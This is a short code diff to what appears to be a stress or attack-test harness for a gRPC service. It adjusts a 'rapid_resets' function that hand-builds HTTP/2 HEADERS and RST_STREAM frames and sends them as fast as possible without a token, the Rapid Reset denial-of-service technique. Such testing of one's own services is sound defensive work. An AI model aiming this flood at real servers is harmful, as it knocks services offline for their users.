@@ -57,7 +57,7 @@ def literal(name: bytes, value: bytes) -> bytes:
     return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value
 
 
-@attack(quick=500_000, full=4_000_000, flags=flags)
+@attack(quick=200_000, full=4_000_000, flags=flags)
 def rapid_resets(target: Target, size: int) -> str:
     """Calls that are reset as soon as they are made, as fast as they can be sent, without a token."""
     head = bytes([0x83, 0x86]) + literal(b":path", b"/boardwire.v1.MatchService/ListMatches")
@@ -65,7 +65,8 @@ def rapid_resets(target: Target, size: int) -> str:
     begin = len(head).to_bytes(3, "big") + b"\x01\x04"
     reset, cancel = (4).to_bytes(3, "big") + b"\x03\x00", (8).to_bytes(4, "big")
     connections = sent = 0
-    with bounded(target):
+    # Calls that are over take nothing.
+    with bounded(target, 1.5 * BESIDE):
         while sent < size:
             connection, stream = raw(target, PREFACE + SETTINGS), 1
             connection.settimeout(10)
